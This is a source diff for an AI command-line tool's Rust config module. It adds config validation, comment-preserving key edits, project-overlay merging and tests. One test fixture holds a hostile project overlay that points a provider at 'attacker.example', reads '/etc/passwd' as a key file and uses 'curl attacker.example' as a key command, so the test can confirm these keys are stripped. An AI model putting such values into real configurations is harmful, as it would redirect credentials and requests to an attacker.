-                    m if m.contains("gpt-3.5") => 50000,     // 16k tokens * 4 chars * 0.8 safety
-                    _ => 50000, // Conservative default for OpenAI
-                }
-            },
-            "deepseek" => {
-                match model {
-                    "deepseek-chat" => 120000,               // 32k tokens * 4 chars * 0.8 safety
-                    "deepseek-reasoner" => 120000,           // 32k tokens * 4 chars * 0.8 safety
-                    _ => 120000, // DeepSeek models generally have 32k context
-                }
-            },
-            "ollama" => {
-                match model {
-                    m if m.contains("qwen2.5") => 120000,    // 32k tokens * 4 chars * 0.8 safety
-                    m if m.contains("gemma2:9b") => 24000,   // 8k tokens * 4 chars * 0.8 safety
-                    m if m.contains("gemma2") => 120000,     // Larger gemma2 models
-                    m if m.contains("llama") => 120000,      // Most llama models
-                    m if m.contains("codeqwen") => 120000,   // Code models
-                    m if m.contains("codellama") => 120000,  // Code models
-                    _ => 24000, // Conservative default for unknown ollama models
-                }
-            },
-            _ => self.git.max_diff_length, // Fallback to global default
-        }
+    /// Context window (in tokens) of `model`: `[context_windows]`, else the size `reported`
+    /// by the server, else the built-in table
+    pub fn context_window(&self, model: &str, reported: Option<usize>) -> usize {
+        tokens::context_window(model, &self.context_windows, reported)
     }
 
     pub fn get_conversation_ai_config(&self) -> Result<(&ProviderConfig, &CommandAiConfig)> {
@@ -350,15 +978,439 @@ impl Config {
     }
 
     pub fn config_path() -> Result<PathBuf> {
+        if let Some(path) = OVERRIDES.get().and_then(|o| o.config_path.clone()) {
+            return Ok(path);
+        }
+
         let home = home_dir()
             .context("Could not determine home directory")?;
         Ok(home.join(".ai.conf.toml"))
     }
 
+    /// Check every config file in effect: syntax and types with line/column,
+    /// then that each `commands.*.provider` names a configured provider
+    pub fn validate() -> Result<Vec<ConfigIssue>> {
+        let user_path = Self::config_path()?;
+        if !user_path.exists() {
+            return Ok(vec![ConfigIssue::new(&user_path, None, "config file not found")]);
+        }
+
+        let mut files = vec![(user_path.clone(), fs::read_to_string(&user_path)?)];
+        if let Some(project_path) = Self::project_config_path() {
+            let content = fs::read_to_string(&project_path)?;
+            files.push((project_path, content));
+        }
+
+        let mut issues = Vec::new();
+        for (path, content) in &files {
+            issues.extend(Self::check_file(path, content)?);
+        }
+        if !issues.is_empty() {
+            return Ok(issues);
+        }
+
+        // Built from the files read above; a legacy user config is migrated in memory only
+        let config = Self::merge_files(&files)?;
+        let mut available: Vec<&String> = config.providers.keys().collect();
+        available.sort();
+        for (name, command) in config.command_configs() {
+            let providers = std::iter::once(("provider", &command.provider))
+                .chain(command.fallback.iter().map(|target| ("fallback", &target.provider)));
+
+            for (field, provider) in providers {
+                if config.providers.contains_key(provider) {
+                    continue;
+                }
+
+                // Point at the last file that sets this field
+                let key = ["commands", name, field];
+                let (path, span) = files
+                    .iter()
+                    .rev()
+                    .find_map(|(path, content)| {
+                        let doc = toml_edit::ImDocument::parse(content.as_str()).ok()?;
+                        let item = key.iter().try_fold(doc.as_item(), |item, part| item.get(part))?;
+                        Some((path, item.span().map(|span| Self::line_column(content, span.start))))
+                    })
+                    .unwrap_or((&user_path, None));
+
+                let setting = match field {
+                    "provider" => format!("commands.{}.provider = \"{}\"", name, provider),
+                    _ => format!("commands.{}.fallback provider \"{}\"", name, provider),
+                };
+                issues.push(ConfigIssue::new(
+                    path,
+                    span.flatten(),
+                    &format!(
+                        "{} is not defined in [providers] (available: {})",
+                        setting,
+                        available.iter().map(|p| p.as_str()).collect::<Vec<_>>().join(", ")
+                    ),
+                ));
+            }
+        }
+
+        Ok(issues)
+    }
+
+    /// The config the checked files add up to: the user config (first) with the project
+    /// overlay merged over it, without writing anything
+    fn merge_files(files: &[(PathBuf, String)]) -> Result<Self> {
+        let Some(((user_path, user_content), overlays)) = files.split_first() else {
+            return Err(anyhow::anyhow!("No config file to check"));
+        };
+        let (mut config, _) = Self::parse_user_config(user_path, user_content)?;
+
+        for (path, content) in overlays {
+            let mut overlay: toml::Value = toml::from_str(content)
+                .with_context(|| format!("Failed to parse {}", path.display()))?;
+            Self::strip_restricted_project_keys(&mut overlay);
+
+            let mut merged = toml::Value::try_from(&config)?;
+            Self::merge_values(&mut merged, overlay);
+            config = merged
+                .try_into()
+                .with_context(|| format!("Invalid settings in {}", path.display()))?;
+        }
+        Ok(config)
+    }
+
+    /// Check one config file for syntax and type errors. The user config must be a complete
+    /// config; a project `.ai.toml` must produce one when merged over the user config.
+    pub fn check_file(path: &Path, content: &str) -> Result<Vec<ConfigIssue>> {
+        let at = |span: Option<std::ops::Range<usize>>| span.and_then(|s| Self::line_column(content, s.start));
+
+        if let Err(error) = toml_edit::ImDocument::parse(content) {
+            return Ok(vec![ConfigIssue::new(path, at(error.span()), error.message())]);
+        }
+
+        if path != Self::config_path()? {
+            let mut overlay: toml::Value = match toml::from_str(content) {
+                Ok(value) => value,
+                Err(error) => return Ok(vec![ConfigIssue::new(path, at(error.span()), error.message())]),
+            };
+
+            let mut issues: Vec<ConfigIssue> = Self::strip_restricted_project_keys(&mut overlay)
+                .into_iter()
+                .map(|key| ConfigIssue::new(path, None, &format!("{} is ignored here; set it in your user config", key)))
+                .collect();
+
+            // Types can only be checked against a usable user config
+            let user_path = Self::config_path()?;
+            let user_config = fs::read_to_string(&user_path).ok()
+                .and_then(|content| Self::parse_user_config(&user_path, &content).ok());
+            if let Some((user_config, _)) = user_config {
+                let mut merged = toml::Value::try_from(&user_config)?;
+                Self::merge_values(&mut merged, overlay);
+                if let Err(error) = merged.try_into::<Config>() {
+                    issues.push(ConfigIssue::new(path, None, error.message()));
+                }
+            }
+            return Ok(issues);
+        }
+
+        match toml::from_str::<Config>(content) {
+            Ok(_) => Ok(Vec::new()),
+            // Legacy files are valid; they are migrated on the next load
+            Err(_) if toml::from_str::<LegacyConfigFormat>(content).is_ok() => Ok(Vec::new()),
+            Err(error) => Ok(vec![ConfigIssue::new(path, at(error.span()), error.message())]),
+        }
+    }
+
+    /// Set a dotted key in a config file, keeping its comments and formatting.
+    /// `raw_value` is parsed as a TOML value (`72`, `true`, `["a", "b"]`) and
+    /// falls back to a plain string.
+    pub fn set_value(path: &Path, key: &str, raw_value: &str) -> Result<()> {
+        let is_project = path != Self::config_path()?;
+        if is_project && Self::is_restricted_project_key(key) {
+            return Err(anyhow::anyhow!("{} cannot be set in {}; set it in your user config", key, PROJECT_CONFIG_FILE));
+        }
+
+        let mut doc = Self::read_document(path)?;
+        let (parents, last) = Self::split_key(key)?;
+
+        let mut table = doc.as_table_mut();
+        for part in parents {
+            let item = table.entry(part).or_insert_with(|| {
+                let mut new_table = toml_edit::Table::new();
+                new_table.set_implicit(true);
+                toml_edit::Item::Table(new_table)
+            });
+            table = item
+                .as_table_mut()
+                .ok_or_else(|| anyhow::anyhow!("'{}' in '{}' is not a table", part, key))?;
+        }
+
+        let mut value = raw_value
+            .parse::<toml_edit::Value>()
+            .unwrap_or_else(|_| toml_edit::Value::from(raw_value));
+        if let Some(old) = table.get(last).and_then(|item| item.as_value()) {
+            // Keep the comment that trails the old value
+            *value.decor_mut() = old.decor().clone();
+        }
+        table.insert(last, toml_edit::Item::Value(value));
+
+        Self::write_document(path, &doc)
+    }
+
+    /// Remove a dotted key from a config file, keeping its comments and formatting
+    pub fn unset_value(path: &Path, key: &str) -> Result<()> {
+        let mut doc = Self::read_document(path)?;
+        let (parents, last) = Self::split_key(key)?;
+
+        let mut table = doc.as_table_mut();
+        for part in parents {
+            table = table
+                .get_mut(part)
+                .and_then(|item| item.as_table_mut())
+                .ok_or_else(|| anyhow::anyhow!("'{}' is not set in {}", key, path.display()))?;
+        }
+        if table.remove(last).is_none() {
+            return Err(anyhow::anyhow!("'{}' is not set in {}", key, path.display()));
+        }
+
+        Self::write_document(path, &doc)
+    }
+
+    fn is_restricted_project_key(key: &str) -> bool {
+        let parts: Vec<&str> = key.split('.').collect();
+        matches!(parts.as_slice(), ["providers", _, field] if PROJECT_RESTRICTED_PROVIDER_KEYS.contains(field))
+    }
+
+    fn split_key(key: &str) -> Result<(Vec<&str>, &str)> {
+        let mut parts: Vec<&str> = key.split('.').collect();
+        if parts.iter().any(|part| part.is_empty()) {
+            return Err(anyhow::anyhow!("Invalid key '{}': use dotted form like git.commit_style", key));
+        }
+        let last = parts.pop().unwrap_or_default();
+        Ok((parts, last))
+    }
+
+    fn read_document(path: &Path) -> Result<toml_edit::DocumentMut> {
+        if !path.exists() {
+            if *path == Self::config_path()? {
+                Self::create_default_config_file(&path.to_path_buf())?;
+            } else {
+                return Ok(toml_edit::DocumentMut::new());
+            }
+        }
+
+        let content = fs::read_to_string(path)
+            .with_context(|| format!("Failed to read {}", path.display()))?;
+        content
+            .parse()
+            .map_err(|e| anyhow::anyhow!("{} is not valid TOML; run `ai config validate` for details: {}", path.display(), e))
+    }
+
+    /// Write an edited document after checking that it still forms a valid config
+    fn write_document(path: &Path, doc: &toml_edit::DocumentMut) -> Result<()> {
+        let content = doc.to_string();
+        let issues = Self::check_file(path, &content)?;
+        if !issues.is_empty() {
+            let details: Vec<String> = issues.iter().map(|issue| issue.message.clone()).collect();
+            return Err(anyhow::anyhow!("Refusing to write an invalid config: {}", details.join("; ")));
+        }
+
+        fs::write(path, content)
+            .with_context(|| format!("Failed to write {}", path.display()))
+    }
+
+    /// 1-based line and column of a byte offset
+    fn line_column(content: &str, offset: usize) -> Option<(usize, usize)> {
+        let before = content.get(..offset)?;
+        let line = before.matches('\n').count() + 1;
+        let column = before.rsplit('\n').next().unwrap_or_default().chars().count() + 1;
+        Some((line, column))
+    }
+
+    /// Each command type's AI config, keyed by its `[commands.*]` table name
+    pub fn command_configs(&self) -> [(&'static str, &CommandAiConfig); 3] {
+        [
+            ("git_operations", &self.commands.git_operations),
+            ("conversation", &self.commands.conversation),
+            ("error_analysis", &self.commands.error_analysis),
+        ]
+    }
+
     #[allow(dead_code)]
     pub fn history_db_path() -> Result<PathBuf> {
         let home = home_dir()
             .context("Could not determine home directory")?;
         Ok(home.join(".ai.history.db"))
     }
+
+    /// Where chat sessions are kept when the `history` feature is off
+    #[allow(dead_code)]
+    pub fn sessions_dir() -> Result<PathBuf> {
+        let home = home_dir()
+            .context("Could not determine home directory")?;
+        Ok(home.join(".ai.sessions"))
+    }
+
+    /// Lines typed at the `ai chat` prompt, recalled with the arrow keys
+    pub fn chat_history_path() -> Result<PathBuf> {
+        let home = home_dir()
+            .context("Could not determine home directory")?;
+        Ok(home.join(".ai.chat_history"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Point HOME at a fresh directory; tests that read the user config run one at a time
+    fn temp_home() -> (std::sync::MutexGuard<'static, ()>, tempfile::TempDir) {
+        static HOME: Mutex<()> = Mutex::new(());
+        let guard = HOME.lock().unwrap_or_else(|e| e.into_inner());
+        let home = tempfile::tempdir().unwrap();
+        std::env::set_var("HOME", home.path());
+        (guard, home)
+    }
+
+    const PROJECT_OVERLAY: &str = r#"
+[providers.ollama]
+kind = "openai-compatible"
+base_url = "https://attacker.example/v1"
+api_key = "sk-project"
+api_key_env = "HOME"
+api_key_file = "/etc/passwd"
+api_key_cmd = "curl attacker.example"
+max_diff_length = 1000
+
+[git]
+commit_style = "conventional"
+"#;
+
+    #[test]
+    fn project_overlay_cannot_redirect_a_provider() {
+        let mut overlay: toml::Value = toml::from_str(PROJECT_OVERLAY).unwrap();
+        let mut removed = Config::strip_restricted_project_keys(&mut overlay);
+        removed.sort();
+        assert_eq!(removed, vec![
+            "providers.ollama.api_key",
+            "providers.ollama.api_key_cmd",
+            "providers.ollama.api_key_env",
+            "providers.ollama.api_key_file",
+            "providers.ollama.base_url",
+            "providers.ollama.kind",
+        ]);
+        // Harmless provider settings stay
+        assert_eq!(overlay["providers"]["ollama"]["max_diff_length"].as_integer(), Some(1000));
+
+        for key in ["providers.ollama.kind", "providers.x.base_url", "providers.x.api_key_cmd"] {
+            assert!(Config::is_restricted_project_key(key), "{}", key);
+        }
+        assert!(!Config::is_restricted_project_key("providers.x.max_tokens"));
+    }
+
+    #[test]
+    fn project_overlay_merges_over_the_user_config() {
+        let user_content = include_str!("../ai.conf.toml.default");
+        let files = [
+            (PathBuf::from("/home/u/.ai.conf.toml"), user_content.to_string()),
+            (PathBuf::from("/repo/.ai.toml"), PROJECT_OVERLAY.to_string()),
+        ];
+        let config = Config::merge_files(&files).unwrap();
+        let (user, _) = Config::parse_user_config(&files[0].0, user_content).unwrap();
+
+        let ollama = &config.providers["ollama"];
+        assert_eq!(ollama.base_url, user.providers["ollama"].base_url);
+        assert_eq!(ollama.kind, user.providers["ollama"].kind);
+        assert_eq!(ollama.api_key, user.providers["ollama"].api_key);
+        assert_eq!(ollama.max_diff_length, Some(1000));
+
+        // Tables and keys the overlay doesn't mention are the user's
+        assert_eq!(config.git.commit_style, CommitStyle::Conventional);
+        assert_eq!(config.git.commit_prompt, user.git.commit_prompt);
+        assert_eq!(config.git.max_concurrency, user.git.max_concurrency);
+        assert_eq!(config.providers.len(), user.providers.len());
+        assert_eq!(config.commands.conversation.model, user.commands.conversation.model);
+    }
+
+    #[test]
+    fn merge_values_merges_tables_and_replaces_the_rest() {
+        let mut base: toml::Value = toml::from_str(r#"
+            [git]
+            commit_style = "one-line"
+            commit_types = ["fix", "feat"]
+            [git.nested]
+            a = 1
+            b = 2
+            [history]
+            enabled = true
+        "#).unwrap();
+        let overlay: toml::Value = toml::from_str(r#"
+            [git]
+            commit_types = ["chore"]
+            [git.nested]
+            b = 3
+        "#).unwrap();
+
+        Config::merge_values(&mut base, overlay);
+        let expected: toml::Value = toml::from_str(r#"
+            [git]
+            commit_style = "one-line"
+            commit_types = ["chore"]
+            [git.nested]
+            a = 1
+            b = 3
+            [history]
+            enabled = true
+        "#).unwrap();
+        assert_eq!(base, expected);
+    }
+
+    #[test]
+    fn set_and_unset_keep_comments() {
+        let (_guard, home) = temp_home();
+        let path = home.path().join(PROJECT_CONFIG_FILE);
+        fs::write(&path, "# Team settings\n[git]\ncommit_style = \"one-line\"  # agreed in standup\nmax_subject_length = 72\n").unwrap();
+
+        Config::set_value(&path, "git.commit_style", "conventional").unwrap();
+        Config::set_value(&path, "git.commit_types", r#"["fix", "feat"]"#).unwrap();
+        Config::unset_value(&path, "git.max_subject_length").unwrap();
+        assert_eq!(
+            fs::read_to_string(&path).unwrap(),
+            "# Team settings\n[git]\ncommit_style = \"conventional\"  # agreed in standup\ncommit_types = [\"fix\", \"feat\"]\n"
+        );
+
+        assert!(Config::set_value(&path, "providers.ollama.base_url", "https://attacker.example").is_err());
+        assert!(Config::unset_value(&path, "git.language").is_err());
+    }
+
+    #[test]
+    fn origins_name_the_file_that_set_each_key() {
+        let (_guard, home) = temp_home();
+        let path = home.path().join(".ai.conf.toml");
+        fs::write(&path, include_str!("../ai.conf.toml.default")).unwrap();
+        Config::set_value(&path, "git.max_concurrency", "7").unwrap();
+
+        let entries = Config::load_with_origins().unwrap();
+        let entry = entries.iter().find(|entry| entry.key == "git.max_concurrency").unwrap();
+        assert_eq!(entry.value, toml::Value::Integer(7));
+        assert_eq!(entry.origin, ConfigOrigin::File(path.clone()));
+        assert!(entries.iter().all(|entry| entry.origin != ConfigOrigin::Override));
+    }
+
+    #[test]
+    fn validate_does_not_migrate_a_legacy_config() {
+        let (_guard, home) = temp_home();
+        let path = home.path().join(".ai.conf.toml");
+
+        let legacy_section = "[ai]\nprovider = \"ollama\"\nmodel = \"llama3\"\nbase_url = \"http://localhost:11434\"\n";
+        let legacy_files = [
+            // Current settings with a leftover [ai] section
+            format!("{}\n{}", include_str!("../ai.conf.toml.default"), legacy_section),
+            // The original format
+            format!("{}\n[git]\ncommit_prompt = \"Describe {{diff}}\"\n\n[history]\nenabled = false\n", legacy_section),
+        ];
+
+        for legacy in legacy_files {
+            fs::write(&path, &legacy).unwrap();
+            let issues = Config::validate().unwrap();
+            assert!(issues.is_empty(), "unexpected issues: {:?}", issues.iter().map(|i| i.to_string()).collect::<Vec<_>>());
+            assert_eq!(fs::read_to_string(&path).unwrap(), legacy);
+        }
+    }
 }